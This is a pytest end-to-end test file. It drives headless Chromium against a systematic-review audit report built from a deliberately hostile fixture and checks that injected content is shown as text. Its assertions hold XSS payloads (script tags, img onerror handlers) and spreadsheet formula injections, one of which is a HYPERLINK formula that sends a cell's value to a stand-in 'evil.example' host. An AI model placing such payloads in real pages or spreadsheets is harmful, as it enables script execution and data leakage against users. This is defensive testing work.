"""The audit report in a real browser: headless Chromium searches, opens a card and takes a screenshot.

Snakemake runs the whole pipeline on tests/fixtures/hostile, a review whose titles, abstracts,
author names, notes and extracted values carry HTML, script and spreadsheet formulas. Chromium then
opens data/processed/report/index.html with a fragment (``#search=...&open=...``) that makes the
page type the search and click the matching result through its own event handlers, and the DOM it
dumps after the page's script ran is checked: the card shows the study's records, decisions,
extracted values and evidence rule, and every hostile string is text, not markup.

The screenshot is saved under the test's tmp_path and copied to ``$REPORT_SCREENSHOT`` (default:
``report-screenshot.png`` in the system's temporary folder) so that a person can look at it.
Without Chromium the tests skip and say why; CI installs Debian's chromium package (.ci/run).
"""

from __future__ import annotations

import os
import shutil
import subprocess
import tempfile
from html.parser import HTMLParser
from pathlib import Path
from urllib.parse import quote

import pytest

from snakemake_runner import copy_review, snakemake

pytestmark = [pytest.mark.e2e, pytest.mark.slow]

FIXTURE = Path(__file__).resolve().parents[1] / "fixtures" / "hostile"
BROWSERS = ("chromium", "chromium-browser", "google-chrome", "google-chrome-stable")
FLAGS = ["--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run",
         "--disable-background-networking", "--disable-component-update", "--disable-sync",
         "--disable-extensions", "--hide-scrollbars"]
SCREENSHOT_COPY = Path(os.environ.get("REPORT_SCREENSHOT", Path(tempfile.gettempdir()) / "report-screenshot.png"))


class Dom(HTMLParser):
    """Every element (tag, attributes) and the text inside the element with a given id."""

    def __init__(self, within: str) -> None:
        super().__init__(convert_charrefs=True)
        self.within = within
        self.elements: list[tuple[str, dict[str, str]]] = []
        self.depth = 0
        self.parts: list[str] = []
        self.card_attributes: dict[str, str] = {}

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        attributes = {name: value or "" for name, value in attrs}
        self.elements.append((tag, attributes))
        if self.depth or attributes.get("id") == self.within:
            if not self.depth:
                self.card_attributes = attributes
            self.depth += 1 if tag not in ("br", "img", "input", "meta", "hr", "wbr") else 0

    def handle_endtag(self, tag: str) -> None:
        if self.depth:
            self.depth -= 1

    def handle_data(self, data: str) -> None:
        if self.depth:
            self.parts.append(data)

    @property
    def text(self) -> str:
        return " ".join(" ".join(self.parts).split())


@pytest.fixture(scope="module")
def chromium() -> str:
    for name in BROWSERS:
        found = shutil.which(name)
        if found:
            return found
    pytest.skip(f"no Chromium found on PATH (looked for {', '.join(BROWSERS)}); install Debian's chromium "
                "package to run the browser test (.ci/run does on CI)")


@pytest.fixture(scope="module")
def review(tmp_path_factory) -> Path:
    folder = copy_review(FIXTURE, tmp_path_factory.mktemp("hostile") / "review")
    result = snakemake(folder)
    assert result.returncode == 0, result.stderr[-4000:]
    return folder


@pytest.fixture(scope="module")
def page(review) -> Path:
    return review / "data" / "processed" / "report" / "index.html"


def browse(chromium: str, page: Path, fragment: str, profile: Path, *extra: str) -> subprocess.CompletedProcess:
    url = f"{page.resolve().as_uri()}#{fragment}"
    command = [chromium, *FLAGS, f"--user-data-dir={profile}", *extra, url]
    return subprocess.run(command, capture_output=True, text=True, timeout=180)


def dom_after_script(chromium: str, page: Path, fragment: str, profile: Path) -> Dom:
    result = browse(chromium, page, fragment, profile, "--dump-dom")
    assert result.returncode == 0 and "</html>" in result.stdout, result.stderr[-3000:]
    dom = Dom("card")
    dom.feed(result.stdout)
    return dom


def study_of(review: Path, title_part: str) -> str:
    from pipeline.io import read_table

    studies = read_table(review / "data/processed/screen/studies.csv")
    return studies.loc[studies["title"].str.contains(title_part, regex=False), "study_id"].iloc[0]


def test_search_then_click_opens_the_study_card(chromium, review, page, tmp_path):
    study = study_of(review, "Mindfulness for nurses")
    dom = dom_after_script(chromium, page, f"search={quote('mindfulness nurses')}&open={quote(study)}", tmp_path / "profile")
    assert dom.card_attributes.get("data-open") == f"study:{study}"
    results = [attrs for tag, attrs in dom.elements if tag == "button" and "result" in attrs.get("class", "")]
    assert [attrs["data-id"] for attrs in results] == [study]
    assert "active" in results[0]["class"]  # the click went through the list's own handler
    card = dom.text
    for shown in (
        "<script>alert(1)</script> Mindfulness for nurses",  # the title, as text
        "<img src=x onerror=alert(1)> Eve",  # an author name, as text
        "psycinfo:1", "scopus:S1", "data/raw/exports/hostile.ris:1", "data/raw/exports/hostile.csv:2",  # raw records
        "same_doi", "kept", "duplicate",  # the cluster and the rule behind the merge
        "eve", "finn", "<script>alert('note')</script>",  # every reviewer's decision, notes as text
        "data/raw/decisions/screening/eve.csv:2", "data/raw/decisions/screening/finn.csv:2",
        "inc_effectiveness (Studies of effectiveness <b>bold</b>)",  # the reason with its criterion
        '=HYPERLINK("http://evil.example/","USA")', "<script>alert('quote')</script>",  # extracted values, sources
        "Best Practice", "design rct -> best",  # the level and the rule that gave it
    ):
        assert shown in card, shown


def test_hostile_content_is_text_not_markup(chromium, review, page, tmp_path):
    study = study_of(review, "Mindfulness for nurses")
    dom = dom_after_script(chromium, page, f"search=mindfulness&open={quote(study)}", tmp_path / "profile")
    tags = [tag for tag, _ in dom.elements]
    assert tags.count("script") == 2  # the data block and the page's own script
    assert "img" not in tags and "b" not in tags and "iframe" not in tags
    assert not [attrs for _, attrs in dom.elements if any(name.startswith("on") for name in attrs)]


def test_an_excluded_record_gets_a_card_with_its_reason(chromium, review, page, tmp_path):
    dom = dom_after_script(chromium, page, "view=records&search=caregiver&open=psycinfo%3A3", tmp_path / "profile")
    assert dom.card_attributes.get("data-open") == "record:psycinfo:3"
    card = dom.text
    for shown in ("@SUM(1)+1 caregiver burden in families", "-2+3 Trent", "excluded at title_abstract",
                  "exc_informal_caregivers (Studies of informal caregivers)", "Excluded at title/abstract",
                  "data/raw/exports/hostile.ris", "eve;finn"):
        assert shown in card, shown


def test_a_resolved_conflict_shows_every_decision_and_the_resolution(chromium, review, page, tmp_path):
    study = study_of(review, "peer support groups")
    dom = dom_after_script(chromium, page, f"search=peer&open={quote(study)}", tmp_path / "profile")
    card = dom.text
    for shown in ('=HYPERLINK("http://evil.example/?q="&A1,"open") peer support groups', "+cmd Mallory",
                  "<img src=x onerror=alert('finn')>", "Resolutions:", "gus", "-1+1 resolved <b>include</b>",
                  "Promising Practice"):
        assert shown in card, shown


def test_screenshot_of_an_open_card(chromium, review, page, tmp_path):
    study = study_of(review, "Mindfulness for nurses")
    shot = tmp_path / "report-card.png"
    result = browse(chromium, page, f"search=mindfulness&open={quote(study)}", tmp_path / "profile",
                    f"--screenshot={shot}", "--window-size=1280,1600", "--run-all-compositor-stages-before-draw")
    assert result.returncode == 0, result.stderr[-3000:]
    data = shot.read_bytes()
    assert data[:8] == b"\x89PNG\r\n\x1a\n" and len(data) > 20_000
    SCREENSHOT_COPY.parent.mkdir(parents=True, exist_ok=True)
    shutil.copyfile(shot, SCREENSHOT_COPY)
